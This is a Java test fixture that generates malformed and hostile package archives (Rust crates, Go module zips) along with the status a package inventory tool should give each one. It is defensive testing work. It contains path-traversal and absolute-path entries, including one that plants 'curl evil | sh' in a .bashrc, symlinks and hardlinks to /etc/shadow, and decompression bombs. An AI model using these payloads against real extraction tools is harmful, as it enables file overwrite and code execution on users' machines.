package org.distpolicy.datasets;

import static org.distpolicy.datasets.Entry.file;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPInputStream;
import java.util.zip.GZIPOutputStream;

/**
 * An archive of hostile and broken inputs, one per kind the readers must survive, with the
 * inventory status each must get. Generated into a temporary directory by tests; never extracted.
 */
public final class BadInputArchive {
    private static final String MANIFEST = "[package]\nname = \"%s\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";

    private BadInputArchive() {
    }

    /** Writes the archive below {@code root}; returns artifact path → the inventory status it must get. */
    public static Map<String, String> write(Path root) throws IOException {
        Map<String, String> expected = new LinkedHashMap<>();
        Path crates = root.resolve("crates");

        PackageWriter.crate(crates, "good", "1.0.0", List.of(file("Cargo.toml", MANIFEST.formatted("good")), file("src/lib.rs", "")));
        expected.put("crates/good-1.0.0.crate", "ok");

        byte[] valid = crateBytes("corrupt", List.of(file("Cargo.toml", MANIFEST.formatted("corrupt")), file("src/lib.rs", "fn f() {}\n".repeat(400))));
        byte[] corrupt = valid.clone();
        for (int i = 40; i < corrupt.length - 20; i += 7) {
            corrupt[i] ^= 0x5a;
        }
        PackageWriter.write(crates.resolve("corrupt-1.0.0.crate"), corrupt);
        expected.put("crates/corrupt-1.0.0.crate", "artifact/unreadable");

        byte[] whole = crateBytes("cut", List.of(file("Cargo.toml", MANIFEST.formatted("cut")), file("src/lib.rs", "x".repeat(20_000))));
        PackageWriter.write(crates.resolve("cut-1.0.0.crate"), Arrays.copyOf(whole, whole.length / 2));
        expected.put("crates/cut-1.0.0.crate", "artifact/unreadable");

        PackageWriter.write(crates.resolve("shorttar-1.0.0.crate"), gzip(Arrays.copyOf(tarBytes(List.of(
                file("shorttar-1.0.0/Cargo.toml", MANIFEST.formatted("shorttar")), file("shorttar-1.0.0/src/lib.rs", "y".repeat(20_000)))), 3000)));
        expected.put("crates/shorttar-1.0.0.crate", "artifact/unreadable");

        PackageWriter.write(crates.resolve("empty-1.0.0.crate"), new byte[0]);
        expected.put("crates/empty-1.0.0.crate", "artifact/unreadable");

        PackageWriter.write(crates.resolve("html-1.0.0.crate"), "<html><body>502 Bad Gateway</body></html>\n");
        expected.put("crates/html-1.0.0.crate", "artifact/unreadable");

        PackageWriter.tarGz(crates.resolve("dotdot-1.0.0.crate"), List.of(
                file("dotdot-1.0.0/Cargo.toml", MANIFEST.formatted("dotdot")),
                file("dotdot-1.0.0/../../home/user/.bashrc", "curl evil | sh\n")));
        expected.put("crates/dotdot-1.0.0.crate", "artifact/unsafe-entry");

        PackageWriter.tarGz(crates.resolve("absolute-1.0.0.crate"), List.of(
                file("absolute-1.0.0/Cargo.toml", MANIFEST.formatted("absolute")),
                file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n")));
        expected.put("crates/absolute-1.0.0.crate", "artifact/unsafe-entry");

        PackageWriter.crate(crates, "symlink", "1.0.0", List.of(
                file("Cargo.toml", MANIFEST.formatted("symlink")),
                Entry.symlink("src/lib.rs", "../../../../etc/shadow")));
        expected.put("crates/symlink-1.0.0.crate", "artifact/unsafe-entry");

        PackageWriter.crate(crates, "hardlink", "1.0.0", List.of(
                file("Cargo.toml", MANIFEST.formatted("hardlink")),
                Entry.hardlink("src/lib.rs", "../etc/shadow")));
        expected.put("crates/hardlink-1.0.0.crate", "artifact/unsafe-entry");

        PackageWriter.crate(crates, "bomb", "1.0.0", List.of(
                file("Cargo.toml", MANIFEST.formatted("bomb")),
                file("zeros.bin", new byte[16 << 20])));
        expected.put("crates/bomb-1.0.0.crate", "artifact/limit-exceeded");

        PackageWriter.crate(crates, "badtoml", "1.0.0", List.of(file("Cargo.toml", "[package\nname = \"badtoml\"\n")));
        expected.put("crates/badtoml-1.0.0.crate", "artifact/bad-manifest");

        byte[] latin1 = "[package]\nname = \"latin\"\nversion = \"1.0.0\"\ndescription = \"caf\u00e9\"\n".getBytes(StandardCharsets.ISO_8859_1);
        PackageWriter.crate(crates, "latin", "1.0.0", List.of(file("Cargo.toml", latin1)));
        expected.put("crates/latin-1.0.0.crate", "artifact/bad-manifest");

        PackageWriter.crate(crates, "nomanifest", "1.0.0", List.of(file("src/lib.rs", "")));
        expected.put("crates/nomanifest-1.0.0.crate", "artifact/bad-manifest");

        PackageWriter.directory(root.resolve("gocode/src/example.com/badmod"), List.of(
                file("go.mod", "module example.com/badmod\n\ngo 1.21\n\nrequire example.com/x v1.0\n"),
                file("x.go", "package badmod\n")));
        expected.put("gocode/src/example.com/badmod", "artifact/bad-manifest");

        Path proxy = root.resolve("goproxy");
        PackageWriter.write(proxy.resolve("example.com/garbage/@v/v1.0.0.zip"), "PK\u0003\u0004 this is not really a zip".repeat(3));
        PackageWriter.write(proxy.resolve("example.com/garbage/@v/v1.0.0.mod"), "module example.com/garbage\n");
        expected.put("goproxy/example.com/garbage/@v/v1.0.0.zip", "artifact/unreadable");

        PackageWriter.zip(proxy.resolve("example.com/slip/@v/v1.0.0.zip"), List.of(
                file("example.com/slip@v1.0.0/go.mod", "module example.com/slip\n"),
                file("example.com/slip@v1.0.0/../../../tmp/x.go", "package x\n")));
        expected.put("goproxy/example.com/slip/@v/v1.0.0.zip", "artifact/unsafe-entry");

        PackageWriter.zip(proxy.resolve("example.com/zipbomb/@v/v1.0.0.zip"), List.of(
                file("example.com/zipbomb@v1.0.0/go.mod", "module example.com/zipbomb\n"),
                file("example.com/zipbomb@v1.0.0/zeros.go", new byte[16 << 20])));
        expected.put("goproxy/example.com/zipbomb/@v/v1.0.0.zip", "artifact/limit-exceeded");

        PackageWriter.directory(root.resolve("registry/linky-1.0.0"), List.of(
                file("Cargo.toml", MANIFEST.formatted("linky")),
                Entry.symlink("src/secrets", "/etc")));
        expected.put("registry/linky-1.0.0", "artifact/unsafe-entry");

        // A link to the filesystem root must be listed as a link, never walked.
        PackageWriter.directory(root, List.of(Entry.symlink("escape", "/")));
        expected.put("escape", "ok");

        PackageWriter.write(root.resolve("notes.txt"), "not a package\n");
        expected.put("notes.txt", "artifact/unrecognized");
        return expected;
    }

    private static byte[] crateBytes(String name, List<Entry> entries) throws IOException {
        return PackageWriter.crateBytes(name, "1.0.0", entries);
    }

    private static byte[] tarBytes(List<Entry> entries) throws IOException {
        try (GZIPInputStream in = new GZIPInputStream(new ByteArrayInputStream(PackageWriter.tarGzBytes(entries)))) {
            return in.readAllBytes();
        }
    }

    private static byte[] gzip(byte[] data) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(data);
        }
        return out.toByteArray();
    }
}
